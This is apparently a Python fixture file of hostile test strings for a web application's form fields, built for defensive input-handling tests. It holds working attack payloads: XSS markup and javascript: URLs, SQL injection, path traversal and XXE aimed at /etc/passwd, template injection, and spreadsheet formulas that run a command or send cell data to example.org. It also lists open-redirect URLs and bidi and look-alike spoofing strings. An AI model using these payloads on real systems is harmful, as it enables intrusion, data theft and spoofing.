"""Texts that harm careless programs, by name, for every field that takes words.

`REFUSED` may not be stored at all; whatever is in `KEPT` comes back exactly as typed (with CRLF as LF).
"""

# Planted all over the test world. Every page fetched in a test is searched for it as markup (tests/support/page.py).
MARKER = """'"><planted-mark onfocus="planted()" autofocus>"""

ARABIC = "الترميم الدقيق لمدرسة عتيقة في مدينة خيالية"
ARABIC_WITH_VOWELS = "مُحَمَّدٌ"
FRENCH = "L’œuvre où naît l’été — « déjà » 12 %"
AZERBAIJANI = "İıŞşĞğÇçƏəÖöÜü"

NUL = "before\x00after"
ESCAPE = "before\x1b[31mafter"
BACKSPACE = "before\x08after"
VERTICAL_TAB = "before\x0bafter"
DELETE = "before\x7fafter"
NEXT_LINE = "before\x85after"
LONE_HIGH_SURROGATE = "before\ud800after"
LONE_LOW_SURROGATE = "before\udc00after"
NONCHARACTER = "before\ufffeafter"
LAST_NONCHARACTER = "before\U0010ffffafter"
ARABIC_NONCHARACTER = "before\ufdd0after"

REFUSED = {
    "NUL": NUL,
    "escape": ESCAPE,
    "backspace": BACKSPACE,
    "vertical tab": VERTICAL_TAB,
    "delete": DELETE,
    "next line": NEXT_LINE,
    "lone high surrogate": LONE_HIGH_SURROGATE,
    "lone low surrogate": LONE_LOW_SURROGATE,
    "noncharacter": NONCHARACTER,
    "last noncharacter": LAST_NONCHARACTER,
    "Arabic noncharacter": ARABIC_NONCHARACTER,
}

# What a spreadsheet would run, were it written as it stands.
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org/?q="&A1,"read")',
    "web service": '=WEBSERVICE("https://example.org/"&A1)',
    "import": '=IMPORTXML("https://example.org/","//a")',
    "behind a tab": "\t=1+1",
    "behind a line": "\n=1+1",
    "behind a carriage return": "\r=1+1",
    "behind a blank": " =1+1",
    "behind a quote": "\"=1+1",
    "behind a separator": "a,=1+1",
    "behind a semicolon": "a;=1+1",
    "full width equals": "＝1+1",
    "full width plus": "＋1+1",
    "full width minus": "－1+1",
    "full width at": "＠SUM(1,1)",
    "behind no width": "\u200b=1+1",
    "behind a mark of order": "\ufeff=1+1",
}

MARKUP = {
    "script": "<script>alert(1)</script>",
    "marker": MARKER,
    "picture": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "end of title": "</title><script>alert(1)</script>",
    "end of textarea": "</textarea><script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "attribute": '" autofocus onfocus="alert(1)',
    "attribute in apostrophes": "' autofocus onfocus='alert(1)",
    "address": "javascript:alert(1)",
    "address in disguise": "java\tscript:alert(1)",
    "entity": "&lt;b&gt; &amp; &#60;b&#62; &notanentity;",
    "comment": "<!-- --!> <!--",
    "cdata": "<![CDATA[ ]]>",
    "styles": "</style><style>*{display:none}</style>",
    "import of styles": "@import url(https://example.org/x.css);",
    "attachment": '<link rel=attachment href="file:///etc/passwd">',
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "markdown": "[read](javascript:alert(1)) ![x](https://example.org/x.png)",
    "nested": "<div>" * 400,
}

TEMPLATES = {
    "jinja": "{{ 7 * 7 }}{% for x in y %}{# z #}",
    "jinja from inside": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "percent": "%(name)s %s %d %% %",
    "braces": "{0} {name} {0.__class__} {",
    "dollar": "${7*7} $name `id` $(id)",
    "backslashes": "\\n \\x00 \\u0000 \\1 \\",
}

INJECTIONS = {
    "sql": "Robert'); DROP TABLE nomination;--",
    "sql pattern": "100%_\\",
    "path": "../../../etc/passwd",
    "windows path": "..\\..\\windows\\system32",
    "mail header": "Name\r\nBcc: somebody@example.org",
    "log line": "fine\n{\"level\":\"info\",\"message\":\"forged\"}",
    "json": '","admin":true,"x":"',
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "regular expression": "(a+)+$" + "a" * 64 + "!",
}

DIRECTIONS = {
    "Arabic": ARABIC,
    "Arabic with vowels": ARABIC_WITH_VOWELS,
    "override": "invoice\u202efdp.exe",
    "override left open": "\u202eabc",
    "isolate left open": "\u2067abc",
    "isolate closed too often": "abc\u2069\u2069\u202c",
    "marks": "\u200eabc\u200f",
    "Arabic with numbers": "عام 2025 (الدورة 4) - 12.5%",
    "letter mark": "\u061cabc",
}

LETTERS = {
    "French": FRENCH,
    "Azerbaijani": AZERBAIJANI,
    "composed": "é",
    "decomposed": "e\u0301",
    "many marks": "Z" + "\u0310\u0334\u0345" * 60,
    "joined picture": "👩🏽‍🔬👨‍👩‍👧‍👦🇦🇿",
    "beyond the plane": "𝒜𐎠𠜎",
    "no width": "a\u200bb\u200cc\u200dd\u2060e\ufeff",
    "look-alike": "аdmin",
    "ligature": "ﷺ ﬁ ﻼ",
    "replacement": "a\ufffdb",
    "private": "a\ue000b",
    "separators of lines": "a\u2028b\u2029c",
    "blanks at the ends": "  \u00a0words\u3000  ",
    "tab and line": "a\tb\nc",
    "blank lines": "\n\n\na\n\n\n",
}

KEPT = {
    f"{group}: {name}": text
    for group, texts in {
        "markup": MARKUP, "template": TEMPLATES, "injection": INJECTIONS, "direction": DIRECTIONS,
        "letters": LETTERS, "formula": FORMULAS,
    }.items()
    for name, text in texts.items()
    if "\r" not in text.replace("\r\n", "")  # a lone CR is no new line
}

# Longer than any limit of a form, and shaped to be slow: no blank, blanks only, lines only, marks only.
OVERLONG = {
    "letters": "a" * 200_000,
    "words": "word " * 40_000,
    "blanks": " " * 200_000,
    "lines": "\n" * 200_000,
    "Arabic": "كلمة " * 40_000,
    "marks": "e" + "\u0301" * 100_000,
    "pictures": "👩🏽‍🔬" * 20_000,
}

HOSTILE = {
    **{f"refused: {name}": text for name, text in REFUSED.items()},
    **KEPT,
    **{f"overlong: {name}": text for name, text in OVERLONG.items()},
}

# Two spellings each that a person would take for the same.
LOOK_ALIKES = {
    "composed": ("é@example.org", "e\u0301@example.org"),
    "full width": ("admin@example.org", "ａｄｍｉｎ@example.org"),
    "no width": ("admin@example.org", "ad\u200bmin@example.org"),
    "Cyrillic": ("admin@example.org", "аdmin@example.org"),
    "capitals": ("admin@example.org", "Admin@Example.ORG"),
}
# The letters of Azerbaijani and Turkish: four different people.
DIFFERENT_PEOPLE = ("ilqar@example.org", "ılqar@example.org", "İlqar@example.org")

# For every parameter that says where to go next: none of them may lead away.
LEADING_AWAY = (
    "https://example.org/", "//example.org/", "///example.org/", "/\\example.org/", "\\\\example.org/",
    "/\t/example.org/", "/%09/example.org/", "https:example.org", "http:///example.org/",
    "https://127.0.0.1@example.org/", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
)

# For every parameter of a list that is sorted, filtered or paged.
ODD_PARAMETERS = (
    "", " ", "0", "-1", "1.5", "1e9", "9" * 30, "99999999999999999999", "NaN", "inf", "0x10", "１", "٣", "true", "null",
    "None", "[]", "{}", "'", '"', ";", "--", "%", "%00", "\x00", "../", "a" * 5000, *REFUSED.values(),
    *MARKUP.values(), *INJECTIONS.values(),
)
